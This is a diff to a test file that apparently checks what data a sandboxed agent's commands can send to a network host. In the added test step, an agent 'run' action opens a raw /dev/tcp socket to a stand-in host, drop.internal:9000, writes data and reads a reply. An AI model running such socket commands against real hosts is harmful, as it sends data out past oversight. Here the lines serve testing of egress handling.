@@ -48,7 +48,10 @@ describe.skipIf(!ready)('what reaches a host', () => {
       world,
       *act() {
         yield { do: 'run', command: `${put('/a', 5, 'hello')}; head -1 <&3` };
-        yield { do: 'run', command: 'printf bare > /dev/tcp/drop.internal/9000' };
+        yield {
+          do: 'run',
+          command: 'exec 3<>/dev/tcp/drop.internal/9000; printf bare >&3; perl -e "shutdown(STDIN, 1)" <&3; cat <&3',
+        };
         yield { do: 'submit', answer: '' };
       },
     });
@@ -62,6 +65,7 @@ describe.skipIf(!ready)('what reaches a host', () => {
       parts.flatMap((part) => (part.type === 'tool-result' ? [readAsData(part.text)] : [])),
     );
     expect(told[0]).toContain('201');
+    expect(told[1]).toMatch(/^kept/);
   });
 
   it('counts in part when the sender breaks off, and when it is still open at the end', async () => {
